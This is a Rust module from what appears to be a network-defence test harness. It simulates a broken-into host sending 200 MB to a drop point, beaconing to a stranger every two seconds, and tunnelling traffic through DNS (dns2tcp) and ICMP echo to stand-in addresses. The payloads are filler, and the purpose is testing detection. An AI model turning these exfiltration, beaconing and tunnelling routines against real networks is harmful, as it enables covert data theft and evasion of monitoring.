//! What a host does that somebody has broken into: it carries data away, and calls its master.

use std::fs;
use std::io::{Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use anyhow::Result;

use super::{Attack, Running};
use crate::evaluation::live::ANSWER;
use crate::evaluation::live::errand::{Errand, Stop};
use crate::evaluation::live::forge::{self, echo};
use crate::evaluation::live::stage::{DROP_POINT, HOST_V4, Stage};
use crate::evaluation::live::visitors::http;
use crate::process::wait_until;
use crate::topology::{CLIENT_V4, EDGE, WIRE};

const BASE: Attack = Attack {
    name: "",
    what: "",
    kinds: &["tunnel"],
    also: &[],
    needs: &[],
    packets: "dst host 203.0.113.80",
    seconds: 20,
    quick: false,
    answer: ANSWER,
    start: |_| Ok(Running::default()),
};

pub const ALL: &[Attack] = &[
    Attack {
        name: "exfiltration",
        what: "the host sends 200 MB at 10 MB/s to one stranger",
        kinds: &["exfiltration"],
        also: &["traffic_spike"],
        start: |stage| {
            at_work(stage, |stop| {
                let mut stream = http::open(HOST_V4, SocketAddr::new(DROP_POINT, 8443))?;
                let part = vec![7; 100_000];
                let started = Instant::now();
                for number in 1..=2_000 {
                    if stop.is_asked() {
                        break;
                    }
                    stream.write_all(&part)?;
                    let due = started + Duration::from_millis(10) * number;
                    std::thread::sleep(due.saturating_duration_since(Instant::now()));
                }
                Ok(())
            })
        },
        ..BASE
    },
    Attack {
        name: "beaconing",
        what: "the host connects to one stranger each 2 s (3 % jitter), 200 bytes each way; a minute stands for an hour",
        kinds: &["beaconing"],
        seconds: 60,
        start: |stage| {
            at_work(stage, |stop| {
                let started = Instant::now();
                let mut number: u32 = 0;
                while !stop.is_asked() {
                    let mut stream = http::open(HOST_V4, SocketAddr::new(DROP_POINT, 4444))?;
                    stream.write_all(&[7; 200])?;
                    stream.read_exact(&mut [0; 200])?;
                    drop(stream);
                    number += 1;
                    let jitter = Duration::from_millis(u64::from(number * 37 % 60));
                    let due = started + Duration::from_secs(2) * number + jitter;
                    while !stop.is_asked() && Instant::now() < due {
                        std::thread::sleep(Duration::from_millis(10));
                    }
                }
                Ok(())
            })
        },
        ..BASE
    },
    Attack {
        name: "dns-tunnel",
        what: "dns2tcp through a name server of the attacker's: an upload in names, answered in TXT records",
        needs: &["dns2tcpc"],
        start: dns_tunnel,
        ..BASE
    },
    Attack {
        name: "icmp-tunnel",
        what: "50 echo requests a second of 900 random bytes each, echoed",
        start: |stage| {
            let gateway = forge::hardware_address(&stage.world.outside, WIRE)?;
            let mut number = 0;
            let inside = &stage.world.inside;
            let errand = forge::send(inside, EDGE, gateway, (50, 1_000), move |dice| {
                number += 1;
                echo(HOST_V4, DROP_POINT, 0x7777, number, &dice.bytes(900))
            })?;
            Ok(Running::errand(errand))
        },
        ..BASE
    },
];

/// Work on a thread in the host, until the attack ends.
fn at_work(
    stage: &Stage,
    work: impl FnOnce(&Stop) -> std::io::Result<()> + Send + 'static,
) -> Result<Running> {
    let errand = Errand::start(&stage.world.inside, move |stop| {
        // A fence that cuts it off is what one hopes for.
        let _ = work(stop);
        Ok(())
    })?;
    Ok(Running::errand(errand))
}

/// A TCP connection to the attacker's echo server, carried in DNS queries.
fn dns_tunnel(stage: &Stage) -> Result<Running> {
    let folder = tempfile::Builder::new().prefix("palisade-").tempdir()?;
    let path = |name: &str| folder.path().join(name);
    fs::write(
        path("server"),
        format!(
            "listen = {DROP_POINT}\nport = 53\nuser = root\nchroot = /\ndomain = t.example.com\n\
             resources = echo:{CLIENT_V4}:4444\n"
        ),
    )?;
    fs::write(
        path("client"),
        format!(
            "domain = t.example.com\nressource = echo\nlocal_port = 4445\nserver = {DROP_POINT}\n"
        ),
    )?;
    let (inside, outside) = (&stage.world.inside, &stage.world.outside);
    let line =
        |program: &str, settings: &str| format!("{program} -F -f {}", path(settings).display());
    let mut running = Running::tool(outside, &line("dns2tcpd", "server"))?.and(
        inside,
        &format!("dns2tcpc -c -f {}", path("client").display()),
    )?;
    let local = SocketAddr::from(([127, 0, 0, 1], 4445));
    wait_until("dns2tcp listens", Duration::from_secs(5), || {
        Ok(inside.run("ss -Hltn")?.contains(":4445"))
    })?;
    let upload = Errand::start(inside, move |stop| {
        let mut stream = http::open(local.ip(), local)?;
        let part: Vec<u8> = (0..1_000_u32)
            .map(|number| (number * 31 % 251) as u8)
            .collect();
        let mut back = vec![0; part.len()];
        while !stop.is_asked() {
            // A fence that cuts the tunnel is what one hopes for.
            let carried = stream
                .write_all(&part)
                .and_then(|()| stream.read_exact(&mut back));
            if carried.is_err() {
                break;
            }
        }
        Ok(())
    })?;
    running.errands.push(upload);
    running._folder = Some(folder);
    Ok(running)
}
